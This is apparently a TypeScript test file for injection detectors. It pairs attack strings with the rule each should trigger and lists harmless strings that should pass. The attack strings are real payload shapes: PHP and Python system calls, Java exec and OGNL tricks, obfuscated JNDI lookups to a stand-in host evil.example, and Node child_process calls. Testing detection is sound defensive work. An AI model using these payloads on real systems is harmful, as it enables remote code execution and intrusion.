import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Detector } from '../../detector.ts'
import { proofsOf } from '../testing.ts'
import { javaDetector } from './java.ts'
import { jndiDetector } from './jndi.ts'
import { nodejsDetector } from './nodejs.ts'
import { phpDetector } from './php.ts'
import { scriptingDetector } from './scripting.ts'

const attacks: readonly [Detector, string, string][] = [
  [phpDetector, '<?php echo 1; ?>', 'php.tag'],
  [phpDetector, '<?=phpinfo()?>', 'php.tag'],
  [phpDetector, "x;$_GET['c'];", 'php.request-variable'],
  [phpDetector, "${'a'.'b'}", 'php.made-name'],
  [phpDetector, "$_[0]['x'] /* c */ ('id')", 'php.variable-call'],
  [phpDetector, "system('id');", 'php.call'],
  [phpDetector, 'gzuncompress /* c */ ()', 'php.call'],
  [phpDetector, '("sys"."tem")("id");', 'php.called-expression'],
  [phpDetector, 'php://filter/read=x/resource=index.php', 'php.wrapper'],
  [phpDetector, 'allow_url_include=1', 'php.setting'],
  [javaDetector, 'java.lang.ClassLoader', 'java.class'],
  [javaDetector, "Runtime.getRuntime().exec('id')", 'java.expression'],
  [javaDetector, '(#_memberAccess["allowStaticMethodAccess"]=true)', 'java.expression'],
  [javaDetector, 'class.module.classLoader.URLs[0]=x', 'java.expression'],
  [javaDetector, 'runtime.invokertransformer', 'java.gadget'],
  [javaDetector, 'java.evil.ProcessBuilder', 'java.door'],
  [jndiDetector, '${jndi:ldap://evil.example/a}', 'jndi.lookup'],
  [jndiDetector, '${${lower:j}${::-n}di:rmi://evil.example/a}', 'jndi.nested-lookup'],
  [jndiDetector, '${${env:nothing:-j}ndi:dns://evil.example}', 'jndi.nested-lookup'],
  [nodejsDetector, "require('child_process').exec('id')", 'nodejs.reach'],
  [nodejsDetector, 'process.mainModule.constructor', 'nodejs.reach'],
  [nodejsDetector, "new Function('return 1')()", 'nodejs.made-code'],
  [nodejsDetector, 'while(!0);', 'nodejs.endless-loop'],
  [nodejsDetector, 'for(;;)', 'nodejs.endless-loop'],
  [scriptingDetector, "@{[ system 'id' ]}", 'code.perl'],
  [scriptingDetector, "IO.popen('id').read", 'code.ruby'],
  [scriptingDetector, "__import__('os').system('id')", 'code.python'],
  [scriptingDetector, 'Server.CreateObject("x")', 'code.asp'],
]
for (const [detector, text, rule] of attacks)
  test(`${detector.name}: ${JSON.stringify(text)} is ${rule}`, () =>
    assert.ok(proofsOf(detector, text).includes(rule), proofsOf(detector, text).join()))

const harmless: readonly [Detector, string][] = [
  [phpDetector, '<?xml version="1.0"?>'],
  [phpDetector, '<?xpacket begin="x"?>'],
  [phpDetector, 'the system (beta) is down()'],
  [phpDetector, 'ecosystem()'],
  [phpDetector, 'How do I use file_get_contents() in my class?'],
  [phpDetector, "const { fetch } = require('undici')"],
  [phpDetector, 'Price: $19.99 (was $29.99)'],
  [phpDetector, 'Dear ${name}, welcome'],
  [phpDetector, '[MIT](LICENSE)'],
  [javaDetector, 'java.lang.NullPointerException at com.example.Main.main(Main.java:12)'],
  [javaDetector, 'error: java.lang.Object'],
  [javaDetector, 'The class java.util.List is an interface'],
  [javaDetector, 'JavaScript runtime and process builder tools'],
  [jndiDetector, '${user.name} and ${date}'],
  [nodejsDetector, 'process.env is undefined'],
  [nodejsDetector, 'the constructor of the prototype'],
  [nodejsDetector, "console.log('Comparison error:', error);"],
  [scriptingDetector, 'import taxes on the os. Reply soon'],
  [scriptingDetector, 'mail me @{home}'],
]
for (const [detector, text] of harmless)
  test(`${detector.name}: ${JSON.stringify(text)} passes`, () => assert.deepEqual(proofsOf(detector, text), []))
